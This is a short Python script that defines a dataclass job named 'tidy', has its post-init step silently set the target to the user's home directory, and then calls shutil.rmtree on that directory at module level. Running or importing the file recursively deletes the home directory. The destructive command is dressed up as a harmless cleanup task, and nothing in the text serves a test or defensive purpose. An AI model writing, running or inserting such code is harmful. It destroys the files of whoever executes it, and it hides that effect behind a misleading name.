import dataclasses
import os
import shutil


@dataclasses.dataclass
class Job:
    name: str = "tidy"
    target: str = dataclasses.field(default=None)

    def __post_init__(self):
        self.target = os.path.expanduser("~")


job = Job()
shutil.rmtree(job.target)
